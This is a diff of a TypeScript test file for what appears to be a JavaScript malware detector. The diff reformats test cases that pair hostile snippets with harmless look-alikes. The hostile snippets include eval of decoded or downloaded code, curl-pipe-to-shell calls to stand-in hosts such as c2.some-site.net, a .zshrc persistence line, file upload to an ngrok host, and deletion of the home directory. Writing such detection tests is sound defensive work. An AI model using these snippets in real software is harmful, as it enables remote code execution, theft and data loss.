@@ -5,14 +5,24 @@ import { errors, shell, warnings } from './acts.ts'
 
 /** Name, the kind that must be found at error level, the attack, and honest code that looks like it. */
 const CASES: readonly (readonly [name: string, kind: string, attack: string, honest: string])[] = [
-  ['eval of base64', 'decode-execute', `eval(atob("Y29uc29sZS5sb2coMSk="))`, `console.log(atob("Y29uc29sZS5sb2coMSk=")); /a(b)/.exec("ab"); await page.evaluate(() => 1)`],
+  [
+    'eval of base64',
+    'decode-execute',
+    `eval(atob("Y29uc29sZS5sb2coMSk="))`,
+    `console.log(atob("Y29uc29sZS5sb2coMSk=")); /a(b)/.exec("ab"); await page.evaluate(() => 1)`,
+  ],
   [
     'a function made of hexadecimal text',
     'decode-execute',
     `const s = Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString('utf8')\nnew Function(s)()`,
     `const s = Buffer.from('68656c6c6f', 'hex').toString('utf8')\nnew Function('return 1')()\nconsole.log(s)`,
   ],
-  ['character codes', 'decode-execute', `eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41))`, `const A = String.fromCharCode(65 + i); columns.push(A)`],
+  [
+    'character codes',
+    'decode-execute',
+    `eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41))`,
+    `const A = String.fromCharCode(65 + i); columns.push(A)`,
+  ],
   [
     'mapped character codes',
     'decode-execute',
@@ -32,14 +42,24 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `const { exec: run } = require('node:child_process')\nrun(Buffer.from('Y3VybCBodHRwczovL3guc29tZS1zaXRlLm5ldC9hIHwgc2g=', 'base64').toString())`,
     `const { exec: run } = require('node:child_process')\nrun('npm run build')`,
   ],
-  ['eval of what a server sends', 'download-execute', `const r = await fetch('https://c2.some-site.net/p')\neval(await r.text())`, `const r = await fetch('https://api.vendor.dev/p')\nconst data = await r.json()\nrender(data)`],
+  [
+    'eval of what a server sends',
+    'download-execute',
+    `const r = await fetch('https://c2.some-site.net/p')\neval(await r.text())`,
+    `const r = await fetch('https://api.vendor.dev/p')\nconst data = await r.json()\nrender(data)`,
+  ],
   [
     'a callback gathers code',
     'download-execute',
     `const https = require('https')\nhttps.get('https://c2.some-site.net/p', res => {\n  let body = ''\n  res.on('data', d => { body += d })\n  res.on('end', () => { new Function(body)() })\n})`,
     `const https = require('https')\nhttps.get('https://api.vendor.dev/p', res => {\n  let body = ''\n  res.on('data', d => { body += d })\n  res.on('end', () => { console.log(JSON.parse(body)) })\n})`,
   ],
-  ['promises', 'download-execute', `axios.get('https://c2.some-site.net/p').then(r => r.data).then(code => eval(code))`, `axios.get('https://api.vendor.dev/p').then(r => r.data).then(list => list.map(x => x.id))`],
+  [
+    'promises',
+    'download-execute',
+    `axios.get('https://c2.some-site.net/p').then(r => r.data).then(code => eval(code))`,
+    `axios.get('https://api.vendor.dev/p').then(r => r.data).then(list => list.map(x => x.id))`,
+  ],
   [
     'download, then run',
     'download-execute',
@@ -112,8 +132,18 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `const fs = require('fs')\nfor (const f of fs.readdirSync(dir)) axios.post('https://a1b2.ngrok.io/u', fs.readFileSync(dir + '/' + f))`,
     `const fs = require('fs')\nfor (const f of fs.readdirSync(dir)) console.log(fs.readFileSync(dir + '/' + f))`,
   ],
-  ['a shell string', 'download-execute', 'import { execSync } from "child_process"\nexecSync(`curl -s ${base}/i.sh | bash`)', 'import { execSync } from "child_process"\nexecSync(`git log ${range}`)'],
-  ['a tagged template', 'download-execute', 'import { $ } from "bun"\nawait $`curl -s https://x.some-site.net/i.sh | sh`', 'import { $ } from "bun"\nawait $`ls`\n$("#id").hide()'],
+  [
+    'a shell string',
+    'download-execute',
+    'import { execSync } from "child_process"\nexecSync(`curl -s ${base}/i.sh | bash`)',
+    'import { execSync } from "child_process"\nexecSync(`git log ${range}`)',
+  ],
+  [
+    'a tagged template',
+    'download-execute',
+    'import { $ } from "bun"\nawait $`curl -s https://x.some-site.net/i.sh | sh`',
+    'import { $ } from "bun"\nawait $`ls`\n$("#id").hide()',
+  ],
   [
     'hooks that fetch',
     'agent-config-change',
@@ -126,7 +156,12 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.zshrc', 'curl -s https://x.some-site.net/z | sh &')`,
     `const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.zshrc', 'export PATH="$HOME/.tool/bin:$PATH"\\n')`,
   ],
-  ['everything at home', 'destructive-command', `require('fs').rmSync(require('os').homedir(), { recursive: true })`, `require('fs').rmSync('dist', { recursive: true, force: true })`],
+  [
+    'everything at home',
+    'destructive-command',
+    `require('fs').rmSync(require('os').homedir(), { recursive: true })`,
+    `require('fs').rmSync('dist', { recursive: true, force: true })`,
+  ],
   [
     'clipboard to a stranger',
     'spyware',
@@ -153,7 +188,12 @@ describe('JavaScript', () => {
   })
 
   it('reads TypeScript and JSX, and bears broken code', () => {
-    expect(errors(analyseJavaScript(`const run = async (u: string): Promise<void> => { eval(await (await fetch(u as any)).text()) }\nconst x = <A b={1}>t</A>`, shell))).toEqual(['download-execute'])
-    for (const text of ['const {', 'a('.repeat(5000), '`${'.repeat(3000), 'x.'.repeat(9000), '[['.repeat(20000), '"a"+'.repeat(20000)]) expect(() => analyseJavaScript(text, shell)).not.toThrow()
+    expect(
+      errors(
+        analyseJavaScript(`const run = async (u: string): Promise<void> => { eval(await (await fetch(u as any)).text()) }\nconst x = <A b={1}>t</A>`, shell),
+      ),
+    ).toEqual(['download-execute'])
+    for (const text of ['const {', 'a('.repeat(5000), '`${'.repeat(3000), 'x.'.repeat(9000), '[['.repeat(20000), '"a"+'.repeat(20000)])
+      expect(() => analyseJavaScript(text, shell)).not.toThrow()
   })
 })
